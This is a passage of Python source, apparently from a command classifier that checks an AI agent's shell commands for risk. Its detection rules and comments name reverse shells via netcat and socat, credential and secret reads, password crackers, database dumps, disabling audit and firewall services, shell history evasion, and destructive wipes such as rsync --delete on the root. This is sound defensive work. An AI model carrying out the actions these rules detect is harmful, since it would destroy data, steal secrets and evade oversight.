    """``lwp-download URL [FILE]``, ``aria2c URL -o F``, ``axel -o F URL``, ``fetch -o F
    URL``, ``lwp-request URL``: a download, whose file a later command may run."""
    urls: list[str] = []
    others: list[str] = []
    save = where = None
    i = 1
    while i < len(argv):
        arg = argv[i]
        flag, eq, inline = arg.partition("=")
        if flag in _FETCH_VALUE_FLAGS:
            value = inline if eq else (argv[i + 1] if i + 1 < len(argv) else "")
            if flag in _SAVE_FLAGS:
                save = value
            elif flag in _DIR_FLAGS:
                where = value
            i += 1 if eq else 2
            continue
        if not arg.startswith("-"):
            (urls if "://" in arg or _remote(arg) else others).append(arg)
        i += 1
    ctx.session.downloads += 1
    for url in urls:
        url_facts(url if "://" in url else "http://" + url, ctx.facts, method="GET")
    ctx.facts.mark_outbound()
    if ctx.binary(argv[0]) == "lwp-request" and not save:
        ctx.facts.propose("net:http_get")
        return
    ctx.facts.propose("net:download")
    names = (
        [save]
        if save
        else others[:1] or [u.split("?", 1)[0].rstrip("/").rsplit("/", 1)[-1] for u in urls[:1]]
    )
    for name in names:
        if not name or "://" in name:
            continue
        path = name if name.startswith(("/", "~", ".")) or where is None else where + "/" + name
        found = ctx.place(path if "/" in path or path.startswith("~") else "./" + path)
        if found is not None:
            ctx.write(path)
            ctx.session.downloaded.add(found[0])


def _httpie(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    ops = ctx.operands(argv)
    method = "GET"
    if ops and ops[0].upper() in ("GET", "POST", "PUT", "PATCH", "DELETE", "HEAD"):
        method = ops.pop(0).upper()
    items = ops[1:]
    if items or method in ("POST", "PUT", "PATCH"):
        method = "POST" if method == "GET" and items else method
        ctx.facts.mark_outbound(payload=True)
        for item in items:
            if "@" in item:
                ctx.read(item.split("@", 1)[1])
        ctx.facts.propose("net:http_post")
    else:
        ctx.facts.propose("net:http_get")
    if ops:
        url = ops[0]
        url_facts(url if "://" in url else "http://" + url, ctx.facts, method=method)


def _netcat(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    flags = _flags(argv)
    ctx.facts.mark_outbound()
    if ctx.binary(argv[0]) == "socat":
        if any(re.match(r"(?i)(?:exec|system):", a) for a in argv[1:]):
            _reverse_shell(ctx)
    elif {"e", "c"} & flags or "--exec" in flags or "--sh-exec" in flags:
        _reverse_shell(ctx)
    hosts = [a for a in ctx.operands(argv) if not a.isdigit()]
    for host in hosts[:1]:
        dest = parse_destination(host)
        if dest is not None:
            ctx.facts.resource(dest.host)
    if cmd.piped_in or cmd.reads or cmd.here_string:
        ctx.facts.mark_outbound(payload=True)
        ctx.facts.propose("net:upload")
    else:
        ctx.facts.propose("net:connect")


_SSH_VALUE = frozenset("pilLoFRDJbceEmOQSWw")


def _ssh(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    i = 1
    host = None
    while i < len(argv):
        arg = argv[i]
        if arg.startswith("-") and len(arg) >= 2:
            i += 2 if arg[-1] in _SSH_VALUE and len(arg) == 2 else 1
            continue
        host = arg
        break
    rest = argv[i + 1 :] if host else []
    ctx.facts.mark_outbound(payload=bool(cmd.piped_in or cmd.reads))
    # a command or shell on another machine: reviewed as remote execution (remote_exec, as
    # the ssh_exec and ssh_connect tools are), and the command ssh hands to the remote shell
    # (its words joined by spaces) classified as if run here, so what is dangerous locally
    # is blocked remotely too
    ctx.facts.tag("remote_exec")
    ctx.facts.propose("net:upload" if cmd.piped_in or cmd.reads else "shell:exec")
    if host:
        dest = parse_destination(host)
        if dest is not None:
            ctx.facts.login_target(dest.host)
    if rest:
        ctx.recurse(" ".join(rest))


def _remote_copy(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    ops = [a for a in ctx.operands(argv) if a != "__subst__"]
    name = ctx.binary(argv[0])
    if name in ("scp", "rsync", "sftp"):
        i = 1
        ops = []
        while i < len(argv):
            a = argv[i]
            if a.startswith("-"):
                i += 2 if a in ("-P", "-i", "-o", "-F", "-e", "-l", "-c", "-J", "-S") else 1
                continue
            ops.append(a)
            i += 1
    if not ops:
        ctx.facts.mark_outbound()
        ctx.facts.propose("net:connect")
        return
    *sources, dest = ops if len(ops) > 1 else (ops[0], "")
    remote_dest = _remote(dest)
    if (
        name == "rsync"
        and dest
        and remote_dest is None
        and any(a.startswith("--delete") or a == "--remove-source-files" for a in argv[1:])
    ):
        # whatever the source lacks is deleted from the destination: ``rsync -a --delete
        # /empty/ /`` empties the root
        _dispatch(["rm", "-r", dest], SimpleCommand(argv=["rm", "-r", dest]), ctx)
    if remote_dest is not None:
        ctx.facts.resource(remote_dest)
        for src in sources:
            if _remote(src) is None:
                ctx.read(src)
        ctx.facts.mark_outbound(payload=True)
        ctx.facts.propose("net:upload")
        return
    for src in sources:
        host = _remote(src)
        if host is not None:
            ctx.facts.resource(host)
            ctx.facts.mark_outbound()
            ctx.facts.propose("net:download")
        else:
            ctx.read(src)
    if dest:
        ctx.write(dest)
        if name == "rsync" and any(a.startswith("--delete") for a in argv):
            # --delete makes the destination match the source: the root, a home or a
            # system directory synced from something smaller is wiped
            _wipes_if_wide(dest, cmd, ctx)


def _zfs(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    """``zpool destroy``/``zfs destroy``/``zpool labelclear``: a pool or dataset is gone."""
    ops = ctx.operands(argv)
    if ops[:1] and ops[0] in ("destroy", "labelclear", "rollback"):
        ctx.facts.destroy(critical=ops[0] != "rollback")
        if len(ops) > 1:
            ctx.facts.resource(ops[1])
    else:
        ctx.generic(argv, cmd)


_PUSH_VALUE_FLAGS = frozenset({"-o", "--push-option", "--receive-pack", "--exec"})


def _push_target(rest: list[str], ctx: Context) -> None:
    """Where ``git push`` sends: a configured remote by name (``origin``) is the project's
    own; a repository given as a URL or a path (``git push https://host/x.git``,
    ``--repo=...``) goes wherever it says (``unnamed_remote``, its host a resource)."""
    target: str | None = None
    skip = False
    for arg in rest:
        if skip:
            skip = False
        elif arg.startswith("--repo="):
            target = arg.partition("=")[2]
            break
        elif arg in _PUSH_VALUE_FLAGS:
            skip = True  # its value is no repository
        elif not arg.startswith("-"):  # the repository (``--repo URL``'s value included)
            target = arg
            break
    if target is None:
        return
    host = _remote(target)
    if host is not None or target.startswith(("/", ".", "~")):
        ctx.facts.tag("unnamed_remote")
        if host:
            ctx.facts.resource(host)


def _remote(arg: str) -> str | None:
    """The host of ``[user@]host:path``, ``rsync://host/...``, ``s3://bucket``; else None."""
    if "://" in arg:
        scheme, _, rest = arg.partition("://")
        if scheme.lower() == "file":
            return None
        return rest.split("/", 1)[0].rpartition("@")[2] or scheme
    if ":" in arg and not arg.startswith(("/", ".", "~")):
        head = arg.split(":", 1)[0]
        if head and "/" not in head and len(head) > 1:
            return head.rpartition("@")[2]
    return None


def _dns(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    ctx.facts.mark_outbound()
    ctx.facts.propose("net:connect", Severity.LOW)
    for arg in ctx.operands(argv):
        if "." in arg:
            ctx.facts.resource(arg.lstrip("@").lower())
            if any(len(label) >= 24 for label in arg.split(".")):
                ctx.facts.mark_outbound(payload=True)


def _scanner(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    ctx.facts.recon()
    ctx.facts.mark_outbound()
    ctx.facts.propose("net:connect", Severity.HIGH)
    if ctx.binary(argv[0]) in ("hydra", "medusa", "ncrack", "patator", "crackmapexec", "nxc"):
        ctx.facts.tag("auth_attempt")
    if ctx.binary(argv[0]) in ("john", "hashcat", "unshadow"):
        ctx.facts.credential("shadow")
        ctx.generic(argv, cmd)


def _mail(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    ctx.facts.propose("email:send")
    ctx.facts.mark_outbound(payload=True)
    for arg in ctx.operands(argv):
        if "@" in arg:
            ctx.facts.resource(arg)
    ctx.generic(argv, cmd)


def _sshpass(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    ctx.facts.tag("auth_attempt")
    i = 1
    while i < len(argv) and argv[i].startswith("-"):
        i += 2 if argv[i] in ("-p", "-f", "-d") else 1
    if i < len(argv):
        _dispatch(argv[i:], cmd, ctx)


# --- version control, databases, cloud


def _git(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    i = 1
    trees: list[str] = []  # where the command works: ``-C DIR``, ``--work-tree=DIR``...
    while i < len(argv) and argv[i].startswith("-"):
        flag, eq, value = argv[i].partition("=")
        if flag in ("-C", "--git-dir", "--work-tree"):
            value = value if eq else (argv[i + 1] if i + 1 < len(argv) else "")
            trees.append(value)
        elif flag == "-c" and i + 1 < len(argv):
            key, _, value = argv[i + 1].partition("=")
            if key.lower() in ("core.worktree", "core.bare"):
                trees.append(value or "/")
        i += 2 if argv[i] in ("-C", "-c", "--git-dir", "--work-tree") else 1
    sub = argv[i] if i < len(argv) else ""
    rest = argv[i + 1 :]
    flags = _flags(["git", *rest])
    if sub == "push":
        forced = bool(flags & {"f", "--force", "--force-with-lease", "--mirror", "--delete"})
        forced = forced or any(a.startswith("+") or a.startswith(":") for a in rest)
        ctx.facts.propose("vcs:push")
        ctx.facts.mark_outbound(payload=True)
        if forced:
            ctx.facts.destroy(critical=True, type_id="vcs:push")
        _push_target(rest, ctx)
    elif (
        (sub == "reset" and "--hard" in flags)
        or (sub == "clean" and "f" in flags)
        or (sub == "branch" and flags & {"D", "d", "--delete"})
    ):
        # discarding work-tree changes, untracked files or a local branch (the reflog keeps
        # it) inside the workspace is a workspace write, like ``rm -rf build/``; the same
        # on a tree elsewhere (``git -C / clean -fdx``) destroys what is not ours
        if sub == "clean":  # and the pathspecs it cleans (``git clean -fdx ~``)
            trees = trees + [a for a in rest if not a.startswith("-") and a != "--"]
        if not ctx.session.elsewhere and all(
            t not in cmd.dynamic and _work_tree_in_workspace(ctx, t) for t in trees
        ):
            ctx.facts.propose("vcs:write")
        else:
            ctx.facts.destroy(critical=sub != "branch", type_id="vcs:write")
    elif sub in ("filter-branch", "filter-repo"):
        ctx.facts.destroy(critical=False, type_id="vcs:write")
    elif sub == "remote" and rest[:1] in (["add"], ["set-url"]):
        # a remote pointed at a URL: the next ``git push NAME`` sends there
        _push_target([a for a in rest[1:] if "://" in a or _remote(a)][:1], ctx)
    elif sub in ("clone", "fetch", "pull", "ls-remote"):
        ctx.facts.propose("net:download")
        for arg in rest:
            if "://" in arg or "@" in arg:
                host = _remote(arg)
                if host:
                    ctx.facts.resource(host)
        if sub == "clone":
            _cloned_into(rest, ctx)
    elif sub == "config" and any(
        a.lower().startswith(("core.hookspath", "core.fsmonitor", "core.sshcommand",
                              "core.pager", "core.editor", "credential.helper"))
        for a in rest
    ) and not {"--get", "--list", "-l", "--get-all"} & set(rest):  # fmt: skip
        ctx.facts.tag("persistence")
        ctx.facts.propose("vcs:write", Severity.HIGH)
    elif sub == "credential" or (sub == "config" and any("credential" in a for a in rest)):
        if "fill" in rest or "--get" in rest or "get" in rest:
            ctx.facts.credential("git")
    elif sub in ("status", "diff", "log", "show", "blame", "branch", "grep", "rev-parse"):
        ctx.facts.propose("vcs:read")
    elif (
        sub in ("commit", "add", "checkout", "switch", "merge", "rebase", "tag", "stash", "mv")
        or sub == "rm"
    ):
        ctx.facts.propose("vcs:write")
    else:
        ctx.generic(argv, cmd)


def _cloned_into(rest: list[str], ctx: Context) -> None:
    """``git clone URL [DIR]``: what lands in DIR is downloaded, so running a script from
    it later in the line is download-and-execute (``git clone U /tmp/r && /tmp/r/x.sh``)."""
    ops = [a for a in rest if not a.startswith("-")]
    remote = next((a for a in ops if "://" in a or "@" in a), None)
    if remote is None:
        return
    after = ops[ops.index(remote) + 1 :]
    target = after[0] if after else remote.rstrip("/").rsplit("/", 1)[-1].removesuffix(".git")
    found = ctx.place(target if "/" in target or target[:1] == "~" else "./" + target)
    if found is not None:
        ctx.session.downloaded.add(found[0].rstrip("/") + "/")


def _cd(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    """``cd``/``pushd``: leaving the workspace makes what follows no workspace work."""
    ops = ctx.operands(argv)
    target = ops[0] if ops else "~"
    ctx.generic(argv, cmd)
    if target in cmd.dynamic or not _work_tree_in_workspace(ctx, target):
        ctx.session.elsewhere = True
    found = ctx.place(target if "/" in target or target[:1] in ("~", ".") else "./" + target)
    if target not in cmd.dynamic and found is not None:
        ctx.session.cwd = found[0]  # relative paths after it are relative to there


def _work_tree_in_workspace(ctx: Context, tree: str) -> bool:
    """A ``git -C``/``--work-tree`` directory that is the workspace or lies inside it."""
    tree = tree.rstrip("/") or "/"
    if tree.endswith(".git") and tree.rpartition("/")[2] == ".git":
        tree = tree[:-4].rstrip("/") or "."
    return tree in (".", "./") or _in_workspace(ctx, tree)


def _sql_client(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    ctx.facts.propose("db:query")
    for i, arg in enumerate(argv[1:], 1):
        nxt = argv[i + 1] if i + 1 < len(argv) else ""
        if arg in ("-h", "--host", "-S", "--server") and nxt:
            ctx.facts.login_target(nxt.lower())
        elif arg.startswith("--host="):
            ctx.facts.login_target(arg[7:].lower())
        elif "://" in arg and (dest := parse_destination(arg)) is not None:
            ctx.facts.login_target(dest.host)
        if arg in ("-c", "--command", "-e", "--execute", "-q", "--query", "--eval"):
            if not analyze_sql(nxt, ctx.facts):
                from aimds.rules.understanding.nosql import analyze_nosql

                analyze_nosql(nxt, ctx.facts)  # ``mongosh --eval 'db.logs.drop()'``
        elif arg.startswith("--command=") or arg.startswith("--execute="):
            analyze_sql(arg.split("=", 1)[1], ctx.facts)
        elif (arg.startswith("-p") and len(arg) > 2) or arg.startswith("--password="):
            ctx.facts.tag("auth_attempt")
        elif "://" in arg and "@" in arg.split("://", 1)[1].split("/", 1)[0]:
            if ":" in arg.split("://", 1)[1].split("@", 1)[0]:
                ctx.facts.tag("auth_attempt")
        elif not arg.startswith("-") and i > 1 and analyze_sql(arg, ctx.facts):
            pass
        elif arg in (".dump", ".backup"):
            ctx.facts.tag("database_dump")
            ctx.facts.propose("db:query", Severity.HIGH)


def _dump(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    if any(a.startswith("-p") and len(a) > 2 for a in argv[1:]):
        ctx.facts.tag("auth_attempt")
    tables = _dumped_tables(argv)
    if tables is not None and not any(is_sensitive_table(t) for t in tables):
        # the rows of a few named tables of no people, accounts or secrets (or no rows at
        # all: a schema), as ``SELECT * FROM feature_flags`` reads them; where they go next
        # is judged as for any file or pipe
        ctx.facts.propose("db:query", Severity.MEDIUM)
        return
    ctx.facts.tag("database_dump")
    ctx.facts.propose("db:query", Severity.HIGH)


# per program, the flags of a dump of definitions without rows
_SCHEMA_ONLY = {
    "pg_dump": frozenset({"-s", "--schema-only"}),
    "mysqldump": frozenset({"-d", "--no-data"}),
    "mariadb-dump": frozenset({"-d", "--no-data"}),
}
_TABLE_FLAGS = {
    "pg_dump": ("-t", "--table"),
    "mongodump": ("-c", "--collection"),
    "mongoexport": ("-c", "--collection"),
}


def _dumped_tables(argv: list[str]) -> list[str] | None:
    """The tables a dump is limited to (``pg_dump -t flags``, ``mysqldump db t1 t2``,
    ``mongoexport -c c``); ``[]`` for a schema without rows; ``None`` for a whole database,
    a name pattern, or a dump that cannot be told."""
    name = argv[0].rsplit("/", 1)[-1]
    if name == "pg_dumpall":
        return None
    if not _SCHEMA_ONLY.get(name, frozenset()).isdisjoint(argv[1:]):
        return []  # pg_dump -s, mysqldump -d / --no-data: definitions only
    if name in ("mysqldump", "mariadb-dump"):
        operands = [a for a in argv[1:] if not a.startswith("-")]
        if any(a.startswith("-") and a not in _MYSQL_PLAIN for a in argv[1:]):
            return None  # an option that takes a value would shift the operands
        return operands[1:] or None
    flags = _TABLE_FLAGS.get(name)
    if flags is None:
        return None
    short, long = flags
    tables: list[str] = []
    for i, arg in enumerate(argv[1:], 1):
        if arg in flags and i + 1 < len(argv):
            tables.append(argv[i + 1])
        elif arg.startswith(long + "="):
            tables.append(arg.split("=", 1)[1])
        elif arg.startswith(short) and len(arg) > 2 and not arg.startswith("--"):
            tables.append(arg[2:])
    if not tables or any(c in t for t in tables for c in "*?["):
        return None
    return tables


# mysqldump options that take no value (the operands after them are the database and tables)
_MYSQL_PLAIN = frozenset(
    {"--single-transaction", "--quick", "--skip-lock-tables", "--no-create-info", "-t",
     "--compact", "--skip-comments", "--skip-extended-insert", "--complete-insert",
     "--hex-blob", "--routines", "--triggers", "--no-tablespaces", "--lock-tables", "-d",
     "--no-data", "--add-drop-table"}
)  # fmt: skip


# Payment CLIs (``stripe <resource> <operation>``, ``stripe post /v1/<resource>``): money
# moved out, a refund to the payer, or a look at records; each as the payment tools are.
_PAYMENT_READS = frozenset({"list", "retrieve", "get", "search", "upcoming", "list_line_items"})
_MONEY_OUT = frozenset(
    {"transfers", "payouts", "charges", "payment_intents", "topups", "invoices",
     "checkout_sessions", "payment_links", "application_fees", "credit_notes",
     "outbound_payments", "outbound_transfers", "transfer_reversals"}
)  # fmt: skip
_MONEY_MOVES = frozenset({"create", "confirm", "capture", "pay", "finalize_invoice", "post"})


def _stripe(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    ops = [o.lower() for o in ctx.operands(argv)]
    if len(ops) >= 2 and ops[0] in ("get", "post", "delete") and ops[1].startswith("/v1/"):
        resource = ops[1][4:].split("/", 1)[0]  # stripe post /v1/transfers -d ...
        operation = {"get": "get", "delete": "delete"}.get(ops[0], "post")
    elif len(ops) >= 2:
        resource, operation = ops[0], ops[1]
    else:
        ctx.generic(argv, cmd)  # stripe listen, login, trigger...
        return
    if operation in _PAYMENT_READS:
        ctx.facts.propose("payment:read")
    elif resource == "refunds" and operation in _MONEY_MOVES:
        ctx.facts.propose("payment:refund")
    elif resource in _MONEY_OUT and operation in _MONEY_MOVES:
        ctx.facts.propose("payment:transfer")
    else:
        ctx.generic(argv, cmd)


def _dropdb(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    ctx.facts.destroy(critical=True, type_id="db:admin")


def _redis(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    from aimds.rules.understanding.nosql import analyze_nosql

    i = 1
    while i < len(argv) and argv[i].startswith("-"):  # -h HOST -p PORT -a PASS -n DB ...
        i += 2 if argv[i] in ("-h", "-p", "-a", "-n", "-u", "-s", "--user", "--pass") else 1
    if i < len(argv):
        analyze_nosql(shlex.join(argv[i:]), ctx.facts)  # the command it sends
    words = {a.lower() for a in argv[1:]}
    if words & {"flushall", "flushdb"}:
        ctx.facts.destroy(critical=True, type_id="db:admin")
    elif "--rdb" in words or words & {"keys", "save", "bgsave"}:
        ctx.facts.tag("database_dump")
        ctx.facts.propose("db:query", Severity.HIGH)
    elif "config" in words:
        ctx.facts.propose("db:admin")
    else:
        ctx.facts.propose("db:query")


def _kubectl(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    ops = ctx.operands(argv)
    sub = ops[0] if ops else ""
    words = set(ops)
    if sub == "delete":
        ctx.facts.destroy(critical=True, type_id="shell:exec")
    elif (
        sub in ("get", "describe", "edit")
        and words & {"secret", "secrets"}
        or any(w.startswith("secret/") or w.startswith("secrets/") for w in ops)
        or sub == "config"
        and "view" in words
        and "--raw" in argv
    ):
        ctx.facts.credential("kube")
    elif sub == "exec":
        ctx.facts.tag("code_exec")
    elif sub == "auth" and "can-i" in words:
        ctx.facts.recon()
    elif sub == "create" and any("cluster-admin" in a for a in argv):
        ctx.facts.privilege(critical=True)


def _docker(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    ops = ctx.operands(argv)
    if len(ops) > 1 and ops[0] in ("container", "image"):
        # the management form names the same commands: docker container rm = docker rm,
        # docker image push = docker push (a push left out was data leaving unseen)
        ops = [_DOCKER_MANAGED.get((ops[0], ops[1]), ops[1]), *ops[2:]]
    sub = ops[0] if ops else ""
    joined = " ".join(argv)
    if sub in ("run", "create"):
        if re.search(
            r"--privileged|--cap-add|docker\.sock|--pid[= ]host|-v\s+/:|--volume[= ]/:|"
            r"seccomp[=:]unconfined|apparmor[=:]unconfined|--device|"
            r"--(?:ipc|userns|uts|cgroupns)[= ]host",
            joined,
        ):
            ctx.facts.privilege(critical=True)
        _container_inputs(argv, ctx)
    elif sub in ("rm", "rmi") and {"f", "--force"} & _flags(argv) or _removes_volumes(ops, argv):
        ctx.facts.destroy(critical=False, type_id="shell:exec")
    elif sub == "exec":
        ctx.facts.tag("code_exec")
    elif sub == "login":
        ctx.facts.tag("auth_attempt")
        registry = next((o for o in ops[1:] if "." in o or ":" in o), "docker.io")
        ctx.facts.login_target(registry.lower())
    elif sub == "push":
        ctx.facts.mark_outbound(payload=True)


_DOCKER_MANAGED = {
    ("container", "remove"): "rm",
    ("image", "rm"): "rmi",
    ("image", "remove"): "rmi",
}
"""Management subcommands whose classic name differs (``docker image rm`` is ``docker rmi``);
the others share it (``container rm``, ``container exec``, ``image push``)."""


def _removes_volumes(ops: list[str], argv: list[str]) -> bool:
    """Whether a docker command removes volumes (``volume rm``, ``volume prune``,
    ``system prune --volumes``, ``compose down -v``): a volume is data (a database's files)
    that nothing rebuilds. A prune of unused containers, images, networks or build cache
    alone is everyday cleanup: what it removes is pulled or built again."""
    sub = ops[0] if ops else ""
    verb = ops[1] if len(ops) > 1 else ""
    if sub == "volume":
        return verb in ("rm", "remove", "prune")
    if sub == "system" and verb == "prune":
        return "--volumes" in _flags(argv)
    if sub == "compose" and "down" in ops:
        return bool({"v", "--volumes"} & _flags(argv))
    return False


_RAW_REGISTRY = re.compile(r"^(?:\d{1,3}(?:\.\d{1,3}){3}|\[[0-9a-fA-F:]+\])(?::\d+)?/")


def _container_inputs(argv: list[str], ctx: Context) -> None:
    """What a container is given from the host: mounted host paths are exposed to whatever
    runs in it (``-v ~/.aws:/root/.aws`` hands it the credentials), and an image pulled from
    a raw IP address is code from an unnamed source, run."""
    for i, arg in enumerate(argv[1:], 1):
        flag, eq, value = arg.partition("=")
        if flag in ("-v", "--volume", "--mount") and not eq:
            value = argv[i + 1] if i + 1 < len(argv) else ""
        elif flag not in ("--volume", "--mount"):
            if _RAW_REGISTRY.match(arg):
                ctx.facts.resource(arg.split("/", 1)[0])
                ctx.facts.tag("untrusted_package_source")
                ctx.facts.propose("net:download", Severity.HIGH)
            continue
        if flag == "--mount":
            source = ""
            for item in value.split(","):
                key, _, given = item.partition("=")
                if key in ("source", "src"):
                    source = given
        else:
            source = value.split(":", 1)[0]
        if source.startswith(("/", "~", "./", "$HOME")):
            ctx.read(source)


def _iac(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    ops = ctx.operands(argv)
    if (
        ops[:1] == ["destroy"]
        or "-destroy" in argv
        or ops[:2] == ["state", "rm"]
        or ops[:1] in (["uninstall"], ["delete"])
    ):
        ctx.facts.destroy(critical=True, type_id="shell:exec")


_CLOUD_SECRET = re.compile(
    r"\b(?:get-secret-value|get-session-token|export-credentials|assume-role|get-parameters?\b.*"
    r"--with-decryption|print-access-token|print-identity-token|get-access-token|"
    r"secrets versions access|keyvault secret show|configure get|get-login-password|"
    r"auth:token|token)\b",
)
# Grants of cloud permissions: a policy attached to or written into a user, group or role,
# a member added to a group or a binding to a project, a role assignment, new keys or a
# console password for an identity (``aws iam attach-user-policy``, ``gcloud projects
# add-iam-policy-binding``, ``az role assignment create``).
_CLOUD_GRANT = re.compile(
    r"\b(?:(?:attach|put)-(?:user|group|role)-policy|add-user-to-group|"
    r"add-role-to-instance-profile|update-assume-role-policy|create-access-key|"
    r"create-login-profile|update-login-profile|add-iam-policy-binding|set-iam-policy|"
    r"role assignment create|ad group member add)\b",
)
_KEY_USE_COMMAND = re.compile(r"\b(?:kms|keys?|keyvault)\b.*\b(?:re-)?(?:encrypt|wrapkey)\b")
_CLOUD_DELETE = re.compile(
    r"^(?:[\w-]+:)?(?:delete|terminate|destroy|remove|rb|rm|purge|reset)(?:[-_][\w-]+)?$",
    re.IGNORECASE,
)


def _cloud(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    name = ctx.binary(argv[0])
    joined = " ".join(argv[1:])
    kind = {"aws": "aws", "gcloud": "gcloud", "gsutil": "gcloud", "az": "azure"}.get(name, name)
    ops = ctx.operands(argv)
    if _CLOUD_SECRET.search(joined):
        ctx.facts.credential(kind)
        return
    if _CLOUD_GRANT.search(joined):
        ctx.facts.privilege()
        return
    if _KEY_USE_COMMAND.search(joined) and (accounts := account_keys(joined)):
        # data encrypted under a key named with its account: it is readable wherever that
        # account is (``aws kms encrypt --key-id arn:aws:kms:...:999999999999:key/...``)
        for account in accounts:
            ctx.facts.resource(account)
        ctx.facts.tag(ACCOUNT_KEY_TAG)  # judged by the classifier (own accounts)
    if re.search(r"\bsts get-caller-identity\b|\bauth list\b|\baccount show\b", joined):
        ctx.facts.recon()
        return
    if any(_CLOUD_DELETE.match(w) for w in ops):
        critical = "--recursive" in argv or "--force" in argv or "rb" in ops
        ctx.facts.destroy(critical=critical, type_id="shell:exec")
        return
    if any(w in ("cp", "sync", "mv", "copy") for w in ops[:3]):
        targets = [w for w in ops if "://" in w or w.startswith("gs:") or ":" in w]
        if targets and ops and _remote(ops[-1]) is not None:
            for src in ops[1:-1] if len(ops) > 2 else ():
                if _remote(src) is None:
                    ctx.read(src)
            ctx.facts.mark_outbound(payload=True)
            ctx.facts.propose("net:upload")
            ctx.facts.resource(_remote(ops[-1]) or "")
            return
    ctx.generic(argv, cmd)


def _vault(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    ops = ctx.operands(argv)
    name = ctx.binary(argv[0])
    reading = {"get", "read", "show", "lookup", "fill", "find-generic-password",
               "find-internet-password", "dump-keychain", "item", "export"}  # fmt: skip
    if name == "pass" and (not ops or ops[0] not in ("insert", "generate", "edit", "rm", "init")):
        ctx.facts.credential("password_store")
    elif set(ops[:3]) & reading or (name == "vault" and ops[:1] == ["kv"] and "get" in ops):
        ctx.facts.credential("vault" if name == "vault" else "password_store")
    elif name == "gpg" and any(a.startswith("--export-secret") for a in argv):
        ctx.facts.credential("gpg")
    elif name == "gh" and ops[:2] == ["auth", "token"]:
        ctx.facts.credential("git")
    elif name == "gh" and ops[:2] == ["auth", "login"]:
        ctx.facts.tag("auth_attempt")
    else:
        ctx.generic(argv, cmd)


def _power(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    name = ctx.binary(argv[0])
    ops = ctx.operands(argv)
    if name == "init" and ops[:1] not in (["0"], ["6"]):
        return
    if name == "systemctl" and set(ops) & {"enable", "link", "preset", "add-wants", "edit"}:
        _persist(argv, cmd, ctx)
        return
    if (
        name == "systemctl"
        and set(ops[:1]) & {"stop", "disable", "mask", "kill"}
        and any(_SECURITY_SERVICE.search(o) for o in ops[1:])
    ):
        ctx.facts.destroy(critical=False, type_id="shell:exec")  # a security control off
        return
    if name == "systemctl" and not set(ops[:1]) & {"poweroff", "reboot", "halt", "kexec"}:
        if set(ops[:1]) & {"list-units", "list-unit-files", "status", "list-timers"}:
            ctx.facts.recon()
        return
    if name in ("kill", "pkill", "killall") and not (
        "-1" in argv or "1" in ops or {"-u", "--user"} & set(argv)
    ):
        return
    if name == "iptables" and not {"F", "X", "--flush"} & _flags(argv):
        return
    if name == "crontab":
        if "l" in _flags(argv):
            ctx.facts.recon()
            return
        if "r" not in _flags(argv):
            _persist(argv, cmd, ctx)
            return
    if name == "history" and "c" not in _flags(argv):
        ctx.facts.recon()
        return
    ctx.facts.destroy(critical=False, type_id="shell:exec")


_HISTORY_VARIABLES = frozenset({"HISTFILE", "HISTSIZE", "HISTFILESIZE", "SAVEHIST"})


def history_off(name: str, value: str | None) -> bool:
    """Whether assigning ``value`` to ``name`` stops the shell recording commands
    (``HISTFILE=/dev/null``, ``HISTSIZE=0``): what comes next goes unrecorded."""
    return name.upper() in _HISTORY_VARIABLES and (value or "").strip() in ("", "0", "/dev/null")


def _history_evasion(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    """``unset HISTFILE``, ``set +o history``, ``shopt -u -o history``, ``HISTSIZE=0``:
    the shell stops recording what the agent runs (ATT&CK T1070.003), as ``history -c``
    erases it."""
    name, args = ctx.binary(argv[0]), argv[1:]
    if name == "unset":
        off = any(a.upper() in _HISTORY_VARIABLES for a in args)
    elif name == "set":
        off = any(a == "+o" and b == "history" for a, b in zip(args, args[1:], strict=False))
    elif name == "shopt":  # ``shopt -u -o history``
        off = "-u" in args and "-o" in args and "history" in args
    else:  # export NAME=VALUE
        off = any(history_off(*a.split("=", 1)) for a in args if "=" in a)
    if off:
        ctx.facts.destroy(critical=False, type_id="shell:exec")


_SECURITY_SERVICE = re.compile(
    r"^(?:auditd|apparmor|firewalld|ufw|iptables|nftables|fail2ban|selinux|falcon-sensor|"
    r"osqueryd|wazuh-agent|ossec|clamav|clamd|crowdstrike|sysmon|auditbeat|"
    r"elastic-agent)(?:\.service)?$"
)


def _security_off(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    """Security controls switched off: ``setenforce 0``, ``ufw disable``, ``auditctl -e 0``
    (hard to notice, and what comes next goes unrecorded)."""
    name = ctx.binary(argv[0])
    ops = [a.lower() for a in argv[1:]]
    if (
        (name == "setenforce" and ops[:1] in (["0"], ["permissive"]))
        or (name == "ufw" and ops[:1] in (["disable"], ["reset"]))
        or (name == "auditctl" and ("-d" in ops or ops[:2] == ["-e", "0"]))
        or name == "aa-teardown"
    ):
        ctx.facts.destroy(critical=False, type_id="shell:exec")


def _persist(argv: list[str], cmd: SimpleCommand, ctx: Context) -> None:
    """Something that runs again later or at every start: cron, at, services, launchd."""
    name = ctx.binary(argv[0])
    if name in ("at", "batch") and {"l", "d", "r"} & _flags(argv) and len(argv) <= 3:
        ctx.facts.recon()
        return
    if name == "launchctl" and not set(ctx.operands(argv)[:1]) & {
        "load", "bootstrap", "submit", "enable", "kickstart"
    }:  # fmt: skip
